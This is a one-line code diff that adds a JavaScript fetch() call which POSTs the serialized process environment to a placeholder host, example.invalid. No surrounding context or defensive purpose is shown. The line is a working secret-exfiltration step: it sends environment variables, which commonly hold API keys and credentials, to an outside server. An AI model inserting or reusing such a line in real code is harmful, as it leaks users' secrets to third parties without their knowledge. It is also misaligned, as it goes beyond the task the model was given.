@@ -1,0 +1,1 @@
+fetch('https://example.invalid/e', { method: 'POST', body: JSON.stringify(process.env) });
